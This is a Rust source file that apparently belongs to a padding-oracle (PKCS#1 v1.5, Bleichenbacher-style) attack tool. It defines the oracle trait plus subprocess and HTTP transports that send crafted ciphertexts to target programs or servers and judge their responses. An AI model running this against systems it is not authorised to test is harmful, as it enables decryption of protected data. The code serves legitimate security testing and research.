//! The padding-oracle contract and the two transports used against real
//! targets: a subprocess oracle and a blocking HTTP oracle. Each transport
//! carries a user callback that inspects the raw response and decides what
//! counts as "conforming".

use std::path::{Path, PathBuf};
use std::process::Command;
use std::time::{Duration, Instant};

use is_executable::IsExecutable;
use num_bigint::BigInt;
use thiserror::Error;

/// Marker replaced by the hex-rendered ciphertext in argv/URL/header/body
/// templates.
pub const CIPHERTEXT_MARKER: &str = "{}";

#[derive(Debug, Error)]
pub enum OracleError {
    #[error("oracle program {0} not found")]
    ProgramNotFound(PathBuf),
    #[error("{0} must be an executable file")]
    ProgramNotExecutable(PathBuf),
    #[error("oracle process failed: {0}")]
    Spawn(#[from] std::io::Error),
    #[error("oracle request failed: {0}")]
    Http(#[from] reqwest::Error),
}

/// A padding oracle: evaluates a candidate ciphertext under the target key
/// and reports whether its decryption is PKCS#1 v1.5 conforming.
///
/// Implementations must be callable concurrently from several worker
/// threads. Transport failures are reported as errors; the attack engine
/// treats them as non-conforming and moves on.
pub trait PaddingOracle: Send + Sync {
    fn query(&self, c_prime: &BigInt) -> Result<bool, OracleError>;
}

/// Renders `c` as lowercase hex, zero-padded on the left to `width` digits.
pub fn ciphertext_hex(c: &BigInt, width: usize) -> String {
    let hex = c.to_str_radix(16);
    format!("{:0>width$}", hex)
}

fn render(template: &str, c_hex: &str) -> String {
    template.replace(CIPHERTEXT_MARKER, c_hex)
}

/// What an exec-oracle callback gets to inspect.
#[derive(Debug)]
pub struct ExecResponse {
    pub stdout: Vec<u8>,
    pub stderr: Vec<u8>,
    /// Exit code, if the process exited normally.
    pub status: Option<i32>,
    pub duration: Duration,
}

pub type ExecCallback = dyn Fn(&ExecResponse) -> bool + Send + Sync;

/// Runs a program once per query, the ciphertext interpolated into its
/// arguments, and lets the callback judge exit code and output.
pub struct ExecOracle {
    program: PathBuf,
    args: Vec<String>,
    hex_width: usize,
    callback: Box<ExecCallback>,
}

impl ExecOracle {
    pub fn new(
        program: &Path,
        args: Vec<String>,
        hex_width: usize,
        callback: Box<ExecCallback>,
    ) -> Result<Self, OracleError> {
        if !program.exists() {
            return Err(OracleError::ProgramNotFound(program.to_path_buf()));
        }
        if !program.is_executable() {
            return Err(OracleError::ProgramNotExecutable(program.to_path_buf()));
        }
        Ok(Self {
            program: program.to_path_buf(),
            args,
            hex_width,
            callback,
        })
    }
}

impl PaddingOracle for ExecOracle {
    fn query(&self, c_prime: &BigInt) -> Result<bool, OracleError> {
        let c_hex = ciphertext_hex(c_prime, self.hex_width);
        let mut command = Command::new(&self.program);
        for arg in &self.args {
            command.arg(render(arg, &c_hex));
        }
        let started = Instant::now();
        let output = command.output()?;
        let response = ExecResponse {
            stdout: output.stdout,
            stderr: output.stderr,
            status: output.status.code(),
            duration: started.elapsed(),
        };
        Ok((self.callback)(&response))
    }
}

/// What an HTTP-oracle callback gets to inspect.
#[derive(Debug)]
pub struct HttpResponse {
    pub status: u16,
    pub body: Vec<u8>,
    pub duration: Duration,
}

pub type HttpCallback = dyn Fn(&HttpResponse) -> bool + Send + Sync;

/// Issues a GET (or POST, when form fields are configured) per query, the
/// ciphertext interpolated into URL, header and body templates, and lets
/// the callback judge status code and latency.
pub struct HttpOracle {
    client: reqwest::blocking::Client,
    url: String,
    headers: Vec<(String, String)>,
    post: Vec<(String, String)>,
    hex_width: usize,
    callback: Box<HttpCallback>,
}

impl HttpOracle {
    pub fn new(
        url: &str,
        headers: Vec<(String, String)>,
        post: Vec<(String, String)>,
        hex_width: usize,
        use_env_proxy: bool,
        callback: Box<HttpCallback>,
    ) -> Result<Self, OracleError> {
        let mut builder = reqwest::blocking::Client::builder();
        if !use_env_proxy {
            builder = builder.no_proxy();
        }
        let client = builder.build()?;
        Ok(Self {
            client,
            url: url.to_string(),
            headers,
            post,
            hex_width,
            callback,
        })
    }
}

impl PaddingOracle for HttpOracle {
    fn query(&self, c_prime: &BigInt) -> Result<bool, OracleError> {
        let c_hex = ciphertext_hex(c_prime, self.hex_width);
        let url = render(&self.url, &c_hex);
        let mut request = if self.post.is_empty() {
            self.client.get(&url)
        } else {
            let form: Vec<(String, String)> = self
                .post
                .iter()
                .map(|(key, value)| (key.clone(), render(value, &c_hex)))
                .collect();
            self.client.post(&url).form(&form)
        };
        for (name, value) in &self.headers {
            request = request.header(name.as_str(), render(value, &c_hex));
        }
        let started = Instant::now();
        let response = request.send()?;
        let status = response.status().as_u16();
        let body = response.bytes()?.to_vec();
        Ok((self.callback)(&HttpResponse {
            status,
            body,
            duration: started.elapsed(),
        }))
    }
}
